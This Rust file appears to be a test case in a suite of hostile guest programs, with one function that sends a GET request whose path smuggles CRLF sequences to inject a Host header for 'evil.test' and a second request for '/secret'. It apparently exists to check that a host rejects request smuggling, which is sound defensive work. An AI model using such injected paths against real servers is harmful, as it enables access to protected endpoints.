//! Puts a second request into the path.

use hostile_guests::{Request, Told, attack};

attack!(run);

fn run(_: String) -> Told {
    Request::get().at("/api/ok HTTP/1.1\r\nhost: evil.test\r\n\r\nGET /secret").outcome()
}
